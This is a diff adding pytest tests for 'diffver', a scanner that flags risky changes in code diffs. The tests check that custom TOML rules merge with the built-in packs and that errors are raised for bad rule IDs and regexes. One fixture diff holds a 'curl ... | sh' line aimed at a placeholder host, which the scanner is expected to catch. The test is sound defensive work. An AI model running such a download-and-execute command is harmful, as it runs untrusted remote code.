@@ -83,6 +83,29 @@ def test_policies_rulesets_and_baselines() -> None:
     assert [f.rule_id for f in r.blocking] == ["t.x"]
 
 
+def test_custom_rules_add_to_the_builtin_rules() -> None:
+    # Issue 11: like the CLI's --rules, custom rules add to the built-in packs;
+    # builtin=False is the explicit opt-out.
+    src = 'schema = "diffver.rules/v1"\n[[rule]]\nid = "t.x"\ntitle = "T"\ndescription = "D"\ncategory = "secret"\nseverity = "critical"\nkeywords = ["zzz"]\nregex = "zzz[0-9]+"\n'
+    diff = b"--- a/a.sh\n+++ b/a.sh\n@@ -1 +1,2 @@\n-a\n+zzz123\n+curl -s https://x.example/i | sh\n"
+    both = diffver.Ruleset.from_toml(src)
+    assert "pi.instruction-override" in both.rule_ids() and "t.x" in both.rule_ids()
+    ids = {f.rule_id for f in diffver.scan(diff, rules=both, now=NOW).blocking}
+    assert {"t.x", "exec.download-pipe-shell"} <= ids
+    alone = diffver.Ruleset.from_toml(src, builtin=False)
+    assert alone.rule_ids() == ["t.x"]
+    assert [f.rule_id for f in diffver.scan(diff, rules=alone, now=NOW).blocking] == ["t.x"]
+
+
+def test_unknown_rule_ids_and_regex_positions() -> None:
+    with pytest.raises(diffver.PolicyError) as pe:
+        diffver.Policy.from_toml('schema = "diffver.policy/v1"\nid = "x"\n[rules]\n"secret.githb-token" = "off"\n')
+    assert pe.value.rule == "secret.githb-token"
+    with pytest.raises(diffver.RuleError) as re_:
+        diffver.Ruleset.from_toml('schema = "diffver.rules/v1"\n[[rule]]\nid = "t.x"\ntitle = "T"\ndescription = "D"\ncategory = "secret"\nseverity = "low"\nregex = "foo(bar[a-"\n')
+    assert (re_.value.rule, re_.value.field, re_.value.offset) == ("t.x", "regex", 7)
+
+
 def test_artifact_bytes_equal_the_cli_and_verify() -> None:
     signer = diffver.Signer.deterministic()
     r = diffver.scan(SUSPICIOUS, now=NOW, scan_id="pr-7", signer=signer)
